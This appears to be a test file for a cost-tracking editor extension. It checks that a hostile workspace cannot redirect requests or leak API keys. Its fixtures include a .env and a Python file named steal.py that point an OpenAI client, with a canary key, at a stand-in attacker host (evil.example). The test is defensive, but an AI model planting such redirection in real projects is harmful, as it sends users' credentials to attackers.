import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'mocha';
import { accountProvider } from '../../server/src/account-providers';
import {
  CHECK_CONNECTION_METHOD,
  type CheckConnectionResult,
  CURSOR_METHOD,
  PREPARE_QUOTE_METHOD,
  type PreparedQuote,
  REFRESH_ACCOUNTS_METHOD,
  SEND_QUOTE_METHOD,
} from '../../shared/src/account-protocol';
import { REFRESH_PRICES_METHOD } from '../../shared/src/protocol';
import { AccountEditor } from '../support/account-editor';
import { connectionTo } from '../support/billing-rows';
import { realEngine } from '../support/engine';
import { MemoryDisk } from '../support/memory-disk';

const HOUR = 3_600_000;
const FOLDER = 'file:///work';
const CODE = `${FOLDER}/steal.py`;

const evil = (id: string) => ({
  id,
  name: 'Evil',
  baseUrl: 'https://evil.example',
  keyVariable: 'OPENAI_API_KEY',
  balance: { path: '/balance', pointer: '/left' },
  prices: { path: '/prices', list: '/models', model: '/id', input: '/in', per: 1, public: true },
});

/** Everything that makes requests or leads them somewhere, as a workspace might set it. */
const OF_THE_WORKSPACE = {
  customProviders: [evil('evil'), evil('cheapa')],
  baseUrls: { 'evil.example': 'cheapa', 'https://evil.example/v1': 'lumenfall' },
  defaultProvider: 'lumenfall',
  hosts: ['evil.example'],
  'catalog.refresh': true,
  'accounts.plainHttpHosts': ['evil.example', 'evil.example:80'],
  'accounts.pollMinutes': 1,
  'accounts.monthlyLimits': { cheapa: 1 },
  'statusBar.followCursor': true,
};

const FILES: readonly (readonly [uri: string, language: string, text: string])[] = [
  [`${FOLDER}/.env`, 'dotenv', 'CHEAPA_API_KEY=sk-llmaai-CANARY\nOPENAI_BASE_URL=https://evil.example/v1\n'],
  [`${FOLDER}/.vscode/settings.json`, 'jsonc', JSON.stringify(OF_THE_WORKSPACE)],
  [`${FOLDER}/costlint.json`, 'json', JSON.stringify(OF_THE_WORKSPACE)],
  [
    CODE,
    'python',
    `import os
from openai import OpenAI
os.environ["CHEAPA_API_KEY"] = "sk-llmaai-CANARY"
os.environ["COSTLINT_SANDBOX"] = "https://evil.example"
# costlint: provider=evil
evil = OpenAI(base_url="https://evil.example/v1", api_key="sk-llmaai-CANARY")
evil.chat.completions.create(model="gpt-5.2", messages=[{"role": "user", "content": "hi"}])
# costlint: provider=lumenfall model=flux.1-schnell
OpenAI(base_url="https://evil.example/v1").images.generate(model="flux.1-schnell", prompt="a fox")
`,
  ],
];
const PICTURE = { uri: CODE, position: { line: 8, character: 60 } };

describe('a hostile workspace', () => {
  let editor: AccountEditor;

  async function start(maySend: boolean): Promise<void> {
    const { engine, parsers } = realEngine();
    editor = await AccountEditor.start({
      engine,
      parsers: await parsers,
      providerOf: accountProvider,
      accounts: { maySend },
      settings: (uri) => (uri === undefined ? { 'catalog.refresh': false } : OF_THE_WORKSPACE),
      folders: [FOLDER],
      files: new MemoryDisk(Object.fromEntries(FILES.map(([uri, , text]) => [new URL(uri).pathname, text]))),
    });
    for (const [uri, language, text] of FILES) await editor.server.open(uri, text, language);
  }
  beforeEach(() => start(true));
  afterEach(() => editor.server.dispose());

  /** All that somebody does who looks around in it. */
  async function lookAround(): Promise<readonly unknown[]> {
    const { server } = editor;
    const seen: unknown[] = [];
    for (const [uri] of FILES) {
      seen.push(await server.hintTexts(uri), await server.tooltip(uri));
      seen.push(await server.hover(uri, { line: 0, character: 3 }));
    }
    for (const line of [4, 5, 6, 8]) seen.push(await server.hover(CODE, { line, character: 30 }));
    await server.client.sendNotification(CURSOR_METHOD, PICTURE);
    await server.changeConfiguration({ costlint: OF_THE_WORKSPACE });
    seen.push(await server.client.sendRequest(REFRESH_ACCOUNTS_METHOD, { id: null }));
    seen.push(await server.client.sendRequest(REFRESH_PRICES_METHOD));
    seen.push(await editor.shown(HOUR), server.logged);
    return seen;
  }
  const prepare = (): Promise<PreparedQuote> =>
    editor.server.client.sendRequest(PREPARE_QUOTE_METHOD, PICTURE);
  const hosts = () => [...new Set(editor.sent.map(({ request }) => new URL(request.url).host))].sort();

  it('makes no request while nothing is connected', async () => {
    await lookAround();
    const quote = await prepare();
    assert.equal(quote.id, null);
    await editor.pass(24 * HOUR);
    assert.deepEqual(editor.sent, []);
  });

  it('leads no request elsewhere', async () => {
    await editor.connect(connectionTo('cheapa'), connectionTo('lumenfall'));
    await lookAround();
    assert.deepEqual(hosts(), ['api.cheapaapi.com', 'api.lumenfall.ai']);
    assert.deepEqual(new Set(editor.sent.map(({ connection }) => connection.baseUrl)), new Set([null]));
  });

  it('asks no more often than the user wants', async () => {
    await editor.connect(connectionTo('cheapa'));
    await lookAround();
    const asked = editor.sent.length;
    await editor.pass(8 * 60_000);
    assert.equal(editor.sent.length, asked);
  });

  it('describes no provider', async () => {
    await editor.connect(connectionTo('evil'));
    await lookAround();
    const check: CheckConnectionResult = await editor.server.client.sendRequest(CHECK_CONNECTION_METHOD, {
      connection: connectionTo('evil'),
    });
    assert.equal(check.accepted, false);
    assert.deepEqual(editor.sent, []);
  });

  it('sends no quote by itself, and shows before where it goes', async () => {
    await editor.connect(connectionTo('lumenfall'));
    await editor.pass();
    const before = editor.sent.length;
    const { id, target, body } = await prepare();
    assert.equal(target, 'POST https://api.lumenfall.ai/openai/v1/images/generations?dryRun=true');
    assert.deepEqual(JSON.parse(body), { model: 'flux.1-schnell', prompt: 'a fox' });
    await editor.pass();
    assert.equal(editor.sent.length, before);
    await editor.server.client.sendRequest(SEND_QUOTE_METHOD, { id });
    assert.deepEqual(hosts(), ['api.lumenfall.ai']);
  });

  it('gets no key shown, logged or sent', async () => {
    await editor.connect(connectionTo('cheapa'), connectionTo('lumenfall'));
    const seen = await lookAround();
    assert.doesNotMatch(JSON.stringify([seen, editor.sent, editor.server.logged]), /CANARY/);
  });

  it('makes no request at all until it is trusted', async () => {
    editor.server.dispose();
    await start(false);
    await editor.connect(connectionTo('cheapa'), connectionTo('lumenfall'), connectionTo('openrouter'));
    await lookAround();
    const { id } = await prepare();
    if (id !== null) await editor.server.client.sendRequest(SEND_QUOTE_METHOD, { id });
    await editor.server.client.sendRequest(CHECK_CONNECTION_METHOD, { connection: connectionTo('cheapa') });
    await editor.pass(24 * HOUR);
    assert.deepEqual(editor.sent, []);
  });
});
